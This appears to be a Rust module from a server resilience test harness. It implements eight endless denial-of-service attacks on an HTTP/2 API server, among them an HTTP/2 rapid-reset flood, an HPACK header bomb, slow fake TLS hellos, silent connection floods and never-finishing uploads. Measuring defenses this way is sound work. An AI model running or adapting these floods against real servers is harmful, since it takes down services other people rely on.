//! What a hostile neighbour does, each kind until it is dropped. Whatever the other side answers, or whether it closes, the attack
//! goes on with new connections.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, Result};
use clap::ValueEnum;
use futures_util::future::join_all;
use rustls::ClientConfig;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{interval, sleep, timeout};

use crate::crowd::Silent;
use crate::fixtures::CONFIG_MAPS;
use crate::raw::{HEADERS, RST_STREAM, Raw, block, bomb, frame};

const DATA: u8 = 0;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// A connection that does not get on is given up.
const STEP: Duration = Duration::from_secs(3);
/// Between two tries to connect.
const PAUSE: Duration = Duration::from_millis(20);

/// What the hostile neighbour does.
#[derive(Clone, Copy, Debug, Eq, PartialEq, ValueEnum)]
pub enum Attack {
    /// Requests without credentials, 20 at a time on one connection
    Anonymous,
    /// Streams that a server resets as malformed, two connections
    Malformed,
    /// HEADERS, then RST_STREAM 50 ms later, 100 at a time
    Cancelled,
    /// 1,024 TCP connections that say nothing, 100 more each second
    Silent,
    /// 300 watches over WebSocket
    Websockets,
    /// Requests whose 63 header fields of 4 KB are a byte each in HPACK
    Headers,
    /// 200 TLS hellos, byte by byte
    Hellos,
    /// 30 uploads on one connection that never end
    Uploads,
}

impl Attack {
    /// Every attack, in the order in which they are measured.
    pub const ALL: [Self; 8] = [
        Self::Anonymous,
        Self::Malformed,
        Self::Cancelled,
        Self::Silent,
        Self::Websockets,
        Self::Headers,
        Self::Hellos,
        Self::Uploads,
    ];

    /// In metrics.
    pub fn name(self) -> &'static str {
        match self {
            Self::Anonymous => "anonymous",
            Self::Malformed => "malformed",
            Self::Cancelled => "cancelled",
            Self::Silent => "silent",
            Self::Websockets => "websockets",
            Self::Headers => "headers",
            Self::Hellos => "hellos",
            Self::Uploads => "uploads",
        }
    }

    /// Never returns.
    pub async fn run(self, to: SocketAddr, tls: Arc<ClientConfig>) {
        let (connections, work): (usize, Work) = match self {
            Self::Silent => return silent(to).await,
            Self::Anonymous => (1, |to, tls| Box::pin(anonymous(to, tls))),
            Self::Malformed => (2, |to, tls| Box::pin(malformed(to, tls))),
            Self::Cancelled => (1, |to, tls| Box::pin(cancelled(to, tls))),
            Self::Websockets => (300, |to, tls| Box::pin(websocket(to, tls))),
            Self::Headers => (4, |to, tls| Box::pin(headers(to, tls))),
            Self::Hellos => (200, |to, _| Box::pin(hello(to))),
            Self::Uploads => (1, |to, tls| Box::pin(uploads(to, tls))),
        };
        let each = (0..connections).map(|_| async {
            loop {
                // An end of its connection is no end of an attack.
                let _ended = work(to, Arc::clone(&tls)).await;
                sleep(PAUSE).await;
            }
        });
        join_all(each).await;
    }
}

type Work =
    fn(SocketAddr, Arc<ClientConfig>) -> std::pin::Pin<Box<dyn Future<Output = Result<()>> + Send>>;

fn get(authority: &str) -> Vec<u8> {
    block(&[
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", authority),
        (":path", CONFIG_MAPS),
    ])
}

async fn silent(to: SocketAddr) {
    let from = IpAddr::V4(Ipv4Addr::LOCALHOST);
    loop {
        if let Ok(_crowd) = Silent::crowd(from, to, 1024, 100).await {
            std::future::pending::<()>().await;
        }
        sleep(PAUSE).await;
    }
}

async fn connect(to: SocketAddr, tls: &Arc<ClientConfig>) -> Result<Raw> {
    timeout(STEP, Raw::http2(to, tls)).await?
}

/// Sends `count` requests at once and waits for so many answers, again and again.
async fn rounds(raw: &mut Raw, count: u32, block: &[u8], ends: &[u8]) -> Result<()> {
    let mut stream = 1;
    loop {
        let mut bytes = Vec::new();
        for _ in 0..count {
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, block));
            stream += 2;
        }
        timeout(STEP, raw.send(&bytes)).await??;
        let mut left = count;
        while left > 0 {
            let frame = timeout(STEP, raw.frame()).await??.context("closed")?;
            if ends.contains(&frame.kind) {
                left -= 1;
            }
        }
    }
}

async fn anonymous(to: SocketAddr, tls: Arc<ClientConfig>) -> Result<()> {
    let mut raw = connect(to, &tls).await?;
    rounds(&mut raw, 20, &get("k"), &[HEADERS, RST_STREAM]).await
}

async fn malformed(to: SocketAddr, tls: Arc<ClientConfig>) -> Result<()> {
    let mut raw = connect(to, &tls).await?;
    rounds(&mut raw, 5, &get("a@k"), &[HEADERS, RST_STREAM]).await
}

async fn cancelled(to: SocketAddr, tls: Arc<ClientConfig>) -> Result<()> {
    let mut raw = connect(to, &tls).await?;
    let mut stream = 1;
    loop {
        let (mut begin, mut end) = (Vec::new(), Vec::new());
        for _ in 0..100 {
            begin.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &get("k")));
            end.extend(frame(RST_STREAM, 0, stream, &CANCEL));
            stream += 2;
        }
        timeout(STEP, raw.send(&begin)).await??;
        sleep(Duration::from_millis(50)).await;
        timeout(STEP, raw.send(&end)).await??;
    }
}

async fn websocket(to: SocketAddr, tls: Arc<ClientConfig>) -> Result<()> {
    let mut raw = timeout(STEP, Raw::http1(to, &tls)).await??;
    raw.send(format!(
        "GET {CONFIG_MAPS}?watch=1 HTTP/1.1\r\nHost: k\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    ))
    .await?;
    raw.until_closed().await?;
    Ok(())
}

async fn headers(to: SocketAddr, tls: Arc<ClientConfig>) -> Result<()> {
    let mut raw = connect(to, &tls).await?;
    let value = "v".repeat(4000);
    let mut bytes = Vec::new();
    for number in 0..100 {
        let stored = if number == 0 { value.as_str() } else { "" };
        let block = bomb(CONFIG_MAPS, "x-bomb", stored, 63);
        let flags = END_HEADERS | END_STREAM;
        bytes.extend(frame(HEADERS, flags, 2 * number + 1, &block));
    }
    timeout(STEP, raw.send(&bytes)).await??;
    for _ in 0..100 {
        timeout(STEP, raw.frame()).await??.context("closed")?;
    }
    Ok(())
}

/// A record of 2,000 bytes that claims to be a ClientHello and is none, of which a byte comes each millisecond.
async fn hello(to: SocketAddr) -> Result<()> {
    let mut stream = TcpStream::connect(to).await?;
    stream.set_nodelay(true)?;
    let mut bytes = vec![22, 3, 1, 0x07, 0xd0, 1, 0, 0x07, 0xcc];
    bytes.resize(5 + 2000, 0);
    let mut tick = interval(Duration::from_millis(1));
    for byte in bytes {
        tick.tick().await;
        stream.write_all(&[byte]).await?;
    }
    // Until it is refused.
    let _ = timeout(STEP, stream.read(&mut [0])).await;
    Ok(())
}

async fn uploads(to: SocketAddr, tls: Arc<ClientConfig>) -> Result<()> {
    let mut raw = connect(to, &tls).await?;
    let head = block(&[
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "k"),
        (":path", CONFIG_MAPS),
        ("content-type", "application/json"),
        ("content-length", "1000000"),
    ]);
    let piece = vec![b' '; 16_000];
    for number in 0..30 {
        let stream = 2 * number + 1;
        let mut bytes = frame(HEADERS, END_HEADERS, stream, &head);
        bytes.extend(frame(DATA, 0, stream, &piece));
        timeout(STEP, raw.send(&bytes)).await??;
    }
    raw.until_closed().await?;
    Ok(())
}
